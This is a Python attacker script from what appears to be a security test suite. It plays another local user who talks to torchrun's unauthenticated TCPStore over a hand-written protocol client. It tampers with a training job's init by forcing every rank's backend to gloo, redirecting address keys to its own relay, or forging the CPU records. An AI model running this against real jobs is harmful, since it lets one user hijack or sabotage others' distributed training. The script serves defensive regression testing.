"""Another local user attacking a job's init through torchrun's store (tests/test_init_attack.py).

``python3 init_intruder.py MODE PORT SECONDS DIR`` -- run AS THE OTHER USER with the system's
python3, standard library only: it speaks torch's TCPStore protocol itself (the store has no
authentication, so nothing more is needed), as the issue-35 attacker did against
``init_distributed()`` under ``torchrun``.  MODE:

* ``downgrade``: as soon as a rank publishes its backend choice, rewrite every rank's to ``gloo``
  (a rank that believed it would move the job onto gloo's sockets), and point gloo-like address
  keys at a relay of its own, which counts what reaches it (see ``gloo_keys``: not the names gloo
  reads; the test's detector is each rank's backend);
* ``cpus``: rewrite every rank's host record so the ranks seem to share one CPU (``auto`` would
  then take gloo: more ranks than CPUs), the record otherwise as the rank wrote it.

It writes what it did to ``DIR/intruder.json``: its uid, how many keys it rewrote, the relay's
connections and bytes.
"""

import json
import os
import socket
import struct
import sys
import time

from shm_intruder import _relay as relay  # the relay that counts what reaches it (copied beside this file)

VALIDATE, SET, GET, CHECK = 0, 1, 3, 5
MAGIC = 0x3C85F7CE
PREFIX = "/worker/attempt_0/"  # torchrun's agent store, as the job's ranks use it
STEP = "cpuddp/init1"


class Store:
    """A TCPStore client in the standard library (keys go on the wire with the client's "/")."""

    def __init__(self, port: int) -> None:
        self.s = socket.create_connection(("127.0.0.1", port), timeout=10)
        self.s.sendall(struct.pack("=BI", VALIDATE, MAGIC))

    @staticmethod
    def _text(b: bytes) -> bytes:
        return struct.pack("=Q", len(b)) + b

    def set(self, key: str, value: bytes) -> None:
        self.s.sendall(bytes([SET]) + self._text(("/" + key).encode()) + self._text(value))

    def check(self, key: str) -> bool:
        self.s.sendall(bytes([CHECK]) + struct.pack("=Q", 1) + self._text(("/" + key).encode()))
        return self._recv(1)[0] == 0

    def get(self, key: str) -> bytes:
        self.s.sendall(bytes([GET]) + self._text(("/" + key).encode()))
        return self._recv(struct.unpack("=Q", self._recv(8))[0])

    def _recv(self, n: int) -> bytes:
        out = b""
        while len(out) < n:
            chunk = self.s.recv(n - len(out))
            if not chunk:
                raise OSError("the store closed the connection")
            out += chunk
        return out


def gloo_keys() -> list:
    """Names near those where a gloo group formed on the job's store looks for its peers'
    addresses.  Not gloo's own (it reads ``.../cpu//0/{rank}``, a binary address), so the relay
    counts nothing whatever the job does; the test sees a move onto gloo by each rank's backend."""
    keys = []
    for base in (PREFIX, ""):
        for r in (0, 1):
            keys += [f"{base}default_pg/0//cpu//{r}", f"{base}0//cpu//{r}", f"{base}0/{r}", f"{base}{r}",
                     f"{base}default_pg/1//cpu//{r}", f"{base}1//cpu//{r}"]
    return keys


def attack(mode: str, port: int, seconds: float, where: str) -> None:
    deadline = time.monotonic() + seconds
    result = {"uid": os.geteuid(), "mode": mode, "rewrites": 0, "seen": 0, "relay_connections": 0, "relay_bytes": 0}
    addr = f"127.0.0.1:{relay(result, deadline)}".encode()
    store = None
    while store is None and time.monotonic() < deadline:
        try:
            store = Store(port)
        except OSError:
            time.sleep(0.02)
    seen = {}
    try:
        while store is not None and time.monotonic() < deadline:
            for r in (0, 1):
                key = f"{PREFIX}{STEP}/{'backend' if mode == 'downgrade' else 'host'}/{r}"
                if r not in seen and store.check(key):
                    seen[r] = store.get(key)
                if r in seen:
                    store.set(key, b"gloo" if mode == "downgrade" else forged(seen[r]))
                    result["rewrites"] += 1
            if mode == "downgrade" and seen:
                for key in gloo_keys():
                    store.set(key, addr)
    except OSError:
        pass  # the job ended and took the store with it
    result["seen"] = len(seen)
    with open(os.path.join(where, "intruder.json"), "w") as f:
        json.dump(result, f)


def forged(record: bytes) -> bytes:
    d = json.loads(record)
    d["cpus"] = [0]
    return json.dumps(d).encode()


if __name__ == "__main__":
    attack(sys.argv[1], int(sys.argv[2]), float(sys.argv[3]), sys.argv[4])
